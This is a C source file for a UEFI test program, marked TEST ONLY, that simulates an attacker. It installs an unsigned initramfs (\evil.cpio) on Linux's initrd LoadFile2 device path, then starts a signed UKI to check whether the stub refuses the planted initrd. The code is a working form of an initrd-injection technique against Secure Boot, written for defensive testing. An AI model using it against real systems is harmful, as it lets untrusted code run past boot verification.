/* SPDX-License-Identifier: MIT */
/* TEST ONLY. Plays an attacker who may run one signed EFI program before a
 * signed UKI: it serves \evil.cpio (unsigned) on Linux's initrd device path
 * (LINUX_EFI_INITRD_MEDIA_GUID, the path a UKI stub uses for its own
 * .initrd) and then starts \EFI\keel\noinitrd.efi, a signed UKI that has no
 * .initrd. A stub that does not notice the path is taken lets its kernel
 * run the attacker's initramfs. When the UKI returns (it refused to boot),
 * the initrd is withdrawn again and the UKI's status handed back, so that
 * the loader that started this program falls back to its next entry with
 * nothing left behind. */
#include <efi.h>
#include <efilib.h>
#include "read-file.h"

#define EVIL_INITRD L"\\evil.cpio"
#define TARGET_UKI L"\\EFI\\keel\\noinitrd.efi"

static EFI_GUID load_file2_guid = { 0x4006c0c1, 0xfcb3, 0x403e, { 0x99, 0x6d, 0x4a, 0x6c, 0x87, 0x24, 0xe0, 0x6d } };

/* Linux's initrd vendor media node, as in the kernel's EFI stub. */
static struct {
        VENDOR_DEVICE_PATH vendor;
        EFI_DEVICE_PATH end;
} __attribute__((packed)) initrd_path = {
        .vendor = {
                .Header = { MEDIA_DEVICE_PATH, MEDIA_VENDOR_DP, { sizeof(VENDOR_DEVICE_PATH), 0 } },
                .Guid = { 0x5568e427, 0x68fc, 0x4f3d, { 0xac, 0x74, 0xca, 0x55, 0x52, 0x31, 0xcc, 0x68 } },
        },
        .end = { END_DEVICE_PATH_TYPE, END_ENTIRE_DEVICE_PATH_SUBTYPE, { sizeof(EFI_DEVICE_PATH), 0 } },
};

static VOID *evil_data;
static UINTN evil_size;

/* LoadFile2: the kernel asks for the size first, then for the bytes. */
static EFI_STATUS EFIAPI load_evil(EFI_LOAD_FILE_PROTOCOL *this, EFI_DEVICE_PATH *path, BOOLEAN boot_policy,
                                   UINTN *size, VOID *buf) {
        (void) this;
        (void) path;
        if (!size)
                return EFI_INVALID_PARAMETER;
        if (boot_policy)
                return EFI_UNSUPPORTED;
        if (!buf || *size < evil_size) {
                *size = evil_size;
                return EFI_BUFFER_TOO_SMALL;
        }
        CopyMem(buf, evil_data, evil_size);
        *size = evil_size;
        Print(L"INITRD-INJECT: the kernel took the injected initrd\n");
        return EFI_SUCCESS;
}

static EFI_LOAD_FILE_PROTOCOL load_file2 = { load_evil };

EFI_STATUS efi_main(EFI_HANDLE image, EFI_SYSTEM_TABLE *st) {
        EFI_HANDLE initrd_handle = NULL, uki = NULL;
        EFI_LOADED_IMAGE *li;
        EFI_FILE_HANDLE root;
        EFI_DEVICE_PATH *dp;
        EFI_STATUS err;

        InitializeLib(image, st);
        if (EFI_ERROR(uefi_call_wrapper(BS->HandleProtocol, 3, image, &LoadedImageProtocol, (VOID **) &li)) ||
            !(root = LibOpenRoot(li->DeviceHandle))) {
                Print(L"INITRD-INJECT: cannot open the boot volume\n");
                return EFI_LOAD_ERROR;
        }
        err = read_file(root, EVIL_INITRD, &evil_data, &evil_size);
        if (EFI_ERROR(err)) {
                Print(L"INITRD-INJECT: cannot read %s: %r\n", EVIL_INITRD, err);
                return err;
        }
        err = uefi_call_wrapper(BS->InstallMultipleProtocolInterfaces, 6, &initrd_handle, &DevicePathProtocol,
                                &initrd_path, &load_file2_guid, &load_file2, NULL);
        if (EFI_ERROR(err)) {
                Print(L"INITRD-INJECT: cannot install the initrd device path: %r\n", err);
                return err;
        }
        Print(L"INITRD-INJECT: serving %s (%d bytes) on the initrd device path\n", EVIL_INITRD, evil_size);

        dp = FileDevicePath(li->DeviceHandle, TARGET_UKI);
        err = dp ? uefi_call_wrapper(BS->LoadImage, 6, FALSE, image, dp, NULL, 0, &uki) : EFI_OUT_OF_RESOURCES;
        if (EFI_ERROR(err)) {
                Print(L"INITRD-INJECT: cannot load %s: %r\n", TARGET_UKI, err);
        } else {
                Print(L"INITRD-INJECT: starting %s\n", TARGET_UKI);
                err = uefi_call_wrapper(BS->StartImage, 3, uki, NULL, NULL);
                Print(L"INITRD-INJECT: %s returned: %r\n", TARGET_UKI, err);
                if (err == EFI_SUCCESS)
                        err = EFI_LOAD_ERROR; /* it did not boot */
        }
        if (uki)
                uefi_call_wrapper(BS->UnloadImage, 1, uki);
        uefi_call_wrapper(BS->UninstallMultipleProtocolInterfaces, 6, initrd_handle, &DevicePathProtocol, &initrd_path,
                          &load_file2_guid, &load_file2, NULL);
        FreePool(evil_data);
        return err;
}
